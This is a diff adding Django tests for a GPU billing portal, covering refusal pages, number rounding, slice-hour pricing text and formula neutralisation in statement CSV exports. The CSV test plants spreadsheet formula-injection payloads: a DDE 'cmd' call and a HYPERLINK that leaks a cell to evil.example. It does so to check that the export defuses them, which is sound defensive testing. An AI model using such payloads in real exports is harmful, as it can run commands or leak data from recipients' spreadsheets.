@@ -3,18 +3,27 @@ the statement CSV, and the team page's query count."""
 
 from __future__ import annotations
 
+import ast
 import csv
 import io
+import re
 from datetime import date, timedelta
 from decimal import Decimal
+from fractions import Fraction
+from pathlib import Path
 from typing import Any
 
 import pytest
+from django.conf import LazySettings
 from django.test import Client
 from django.urls import reverse
 
+import frontend
+from billing import pricing, services
 from billing.models import RateCard, UsageHour
 from frontend import selectors
+from frontend.templatetags.portal import gpu_fraction, rounded
+from quota.models import QuotaRule
 from teams.models import Membership, Role
 from tests.frontend.seed import DECISIONS, OUTLIER_NODE, PASSWORD, Portal
 
@@ -45,10 +54,12 @@ def _pages(portal: Portal) -> dict[str, str]:
 
 
 # Expected status per page and member of the cast; home's 302 is a lead's redirect to the team.
+# As in the API (tests/api/test_tenancy.py): a user with no role is refused everything (403),
+# another team is not found (404), so its existence is not revealed.
 EXPECTED = {
     "home": {"lead_a": 302, "member_a": 403, "lead_b": 302, "finance": 200, "operator": 200},
-    "team_a": {"lead_a": 200, "member_a": 404, "lead_b": 404, "finance": 200, "operator": 200},
-    "csv_a": {"lead_a": 200, "member_a": 404, "lead_b": 404, "finance": 200, "operator": 200},
+    "team_a": {"lead_a": 200, "member_a": 403, "lead_b": 404, "finance": 200, "operator": 200},
+    "csv_a": {"lead_a": 200, "member_a": 403, "lead_b": 404, "finance": 200, "operator": 200},
     "fleet": {"lead_a": 403, "member_a": 403, "lead_b": 403, "finance": 403, "operator": 200},
     "decisions": {"lead_a": 403, "member_a": 403, "lead_b": 403, "finance": 403, "operator": 200},
 }
@@ -243,3 +254,171 @@ def test_idle_slices_are_priced_per_slice_hour_by_their_profiles_card(portal: Po
     assert (row.unit, row.rate, row.idle_rate_hours) == ("slice-hour", Decimal("0.50"), slice_hours)
     assert row.cost == (slice_hours * Decimal("0.50")).quantize(Decimal("0.01"))
     assert slice_hours > row.idle
+
+
+def _template_names(response: Any) -> list[str]:
+    return [template.name for template in response.templates]
+
+
+def _without_csrf(content: bytes) -> bytes:
+    """A page without its CSRF token (the logout form's), which differs per response."""
+    return re.sub(rb'name="csrfmiddlewaretoken" value="[^"]*"', b"", content)
+
+
+def test_refusals_are_the_portals_own_pages_even_with_debug_on(
+    portal: Portal, settings: LazySettings
+) -> None:
+    """With DEBUG on, Django answers a raised 404 with its debug page (URL patterns and all):
+    the portal renders its own pages instead, and another team reads exactly like no team."""
+    settings.DEBUG = True
+    lead_a = _client(portal, "lead_a")
+    other = lead_a.get(reverse("team", args=[portal.team_b.slug]))
+    missing = lead_a.get(reverse("team", args=["no-such-team"]))
+    for response in (other, missing):
+        assert response.status_code == 404
+        assert _template_names(response)[0] == "404.html"
+        assert b"Page not found" in response.content and b"URLconf" not in response.content
+    assert _without_csrf(other.content) == _without_csrf(missing.content)
+    other_csv = lead_a.get(
+        reverse("statement-csv", args=[portal.team_b.slug, portal.closed_period.pk])
+    )
+    missing_period = lead_a.get(reverse("statement-csv", args=[portal.team_a.slug, 999_999]))
+    for response in (other_csv, missing_period):
+        assert response.status_code == 404 and _template_names(response)[0] == "404.html"
+
+    member = _client(portal, "member_a").get(reverse("team", args=[portal.team_a.slug]))
+    assert member.status_code == 403 and _template_names(member)[0] == "403.html"
+    assert b"You lead no team" in member.content
+    fleet = lead_a.get(reverse("fleet"))
+    assert fleet.status_code == 403 and _template_names(fleet)[0] == "403.html"
+    assert b"Only operators can see the fleet." in fleet.content
+
+
+@pytest.mark.parametrize(
+    ("value", "shown"),
+    [
+        (Decimal("3.999996"), "4"),
+        (Decimal("3.50"), "3.5"),
+        (Decimal("100").normalize(), "100"),  # 1E+2 unrounded
+        (Decimal("0.125"), "0.12"),  # half to even, like the money
+        (Decimal("-0.001"), "0"),
+        (16, "16"),
+        (2.345678, "2.35"),
+        ("n/a", "n/a"),
+        (None, None),
+    ],
+)
+def test_rounded_for_people(value: Any, shown: Any) -> None:
+    assert rounded(value) == shown
+
+
+@pytest.mark.parametrize(
+    ("share", "shown"),
+    [
+        (Decimal("0.142857"), "1/7"),
+        (Decimal("0.285714"), "2/7"),
+        (Decimal("0.125000"), "1/8"),
+        (Decimal("1"), "1"),
+        (Decimal("0.123457"), "0.12"),  # no small fraction: rounded
+    ],
+)
+def test_slice_share_as_a_fraction_of_the_gpu(share: Decimal, shown: str) -> None:
+    assert gpu_fraction(share) == shown
+
+
+def test_quota_in_use_is_rounded_on_the_page_and_exact_in_the_api(portal: Portal) -> None:
+    """Seven 1/7 slices stored to six places hold 3.999996 GPU-equivalents: people read 4."""
+    QuotaRule.objects.filter(team=portal.team_a, name="gpus").update(
+        in_use=Decimal("3.999996"), limit=Decimal(100)
+    )
+    content = _client(portal, "lead_a").get(reverse("team", args=["vision"])).content.decode()
+    assert '<td data-label="In use" class="num">4</td>' in content
+    assert '<td data-label="Limit" class="num">100 <span' in content
+    assert "3.999996" not in content and "1E+2" not in content
+    api = _client(portal, "finance").get("/api/v1/quotas/", {"team": "vision"}).json()
+    (gpus,) = [row for row in api["results"] if row["name"] == "gpus"]
+    assert Decimal(gpus["in_use"]) == Decimal("3.999996")
+
+
+def test_a_slice_priced_line_explains_the_slice(portal: Portal) -> None:
+    """Idle GPU-hours priced per slice-hour: the page says what a slice is and shows the
+    conversion, so GPU-h x price per slice-h reads right."""
+    since = portal.now - timedelta(days=30)
+    mig = (
+        UsageHour.objects.filter(team=portal.team_a, hour__gte=since)
+        .exclude(profile="")
+        .select_related("allocation__device")
+        .first()
+    )
+    assert mig is not None and mig.allocation.device is not None
+    share = mig.allocation.device.gpu_share
+    RateCard.objects.create(
+        product_name=mig.product_name,
+        profile=mig.profile,
+        per_gpu_hour=Decimal("0.2500"),
+        currency="USD",
+        valid_from=date(2020, 1, 1),
+    )
+    response = _client(portal, "lead_a").get(reverse("team", args=["vision"]) + "?days=30")
+    (row,) = [row for row in response.context["idle"].rows if row.profile == mig.profile]
+    assert row.gpu_share == share
+    text = " ".join(response.content.decode().split())
+    found = re.search(r"Priced per MIG slice-hour \(1 slice = (\d+)/(\d+) GPU\): ([^<]*)", text)
+    assert found is not None, "no slice explanation on the page"
+    assert abs(Fraction(int(found[1]), int(found[2])) - Fraction(share)) < Fraction(1, 10**6)
+    assert found[3] == (
+        f"{row.idle} idle GPU-h = {row.idle_rate_hours} slice-h \u00d7 0.2500 USD = {row.cost} USD."
+    )
+    assert row.idle_rate_hours is not None and row.cost is not None
+    assert row.cost == (row.idle_rate_hours * Decimal("0.25")).quantize(Decimal("0.01"))
+    # GPU-priced rows need no explanation.
+    assert text.count("Priced per MIG slice-hour") == 1
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_statement_csv_neutralises_formulas(portal: Portal) -> None:
+    """Issue 17 (5): a reason or product name a spreadsheet would run is written as text,
+    through the portal's URL; amounts stay numbers, negative ones too."""
+    period = pricing.period_for(portal.now)
+    for index, start in enumerate(FORMULA_STARTS):
+        services.add_adjustment(
+            team=portal.team_a,
+            period=period,
+            currency="USD",
+            amount=Decimal(-12 - index),
+            reason=f"{start}cmd|' /C calc'!A0",
+            product_name=f'{start}HYPERLINK("http://evil.example/?leak="&A1,"click")',
+            actor="finance",
+        )
+    url = reverse("statement-csv", args=["vision", period.pk])
+    rows = list(csv.DictReader(io.StringIO(_client(portal, "lead_a").get(url).content.decode())))
+    adjustments = [row for row in rows if row["kind"] == "adjustment"]
+    assert len(adjustments) == len(FORMULA_STARTS)
+    for row in adjustments:
+        assert row["reason"].startswith("'") and row["reason"][1] in "=+-@\t\r"
+        assert row["product_name"].startswith("'")
+        assert row["product_name"][1:].lstrip("=+-@\t\r").startswith("HYPERLINK(")
+        assert Decimal(row["amount"]) < 0 and row["amount"].startswith("-")
+    for row in rows:
+        for name, cell in row.items():
+            if name != "amount" and cell:
+                assert not cell.startswith(FORMULA_STARTS), (name, cell)
+
+
+def test_every_portal_export_goes_through_the_apis_csv_writer() -> None:
+    """No portal module writes CSV itself: `teams.api.write_csv` (which neutralises formulas)
+    is the only writer, so a new export cannot forget it."""
+    package = Path(frontend.__file__).parent
+    writers = []
+    for module in package.rglob("*.py"):
+        for node in ast.walk(ast.parse(module.read_text(), filename=str(module))):
+            if isinstance(node, ast.Import) and any(a.name == "csv" for a in node.names):
+                writers.append(f"{module.name}: import csv")
+            if isinstance(node, ast.ImportFrom) and node.module == "csv":
+                writers.append(f"{module.name}: from csv import ...")
+    assert writers == []
+    views = (package / "views.py").read_text()
+    assert "from teams.api import write_csv" in views
+    assert views.count("text/csv") == views.count("write_csv(response")
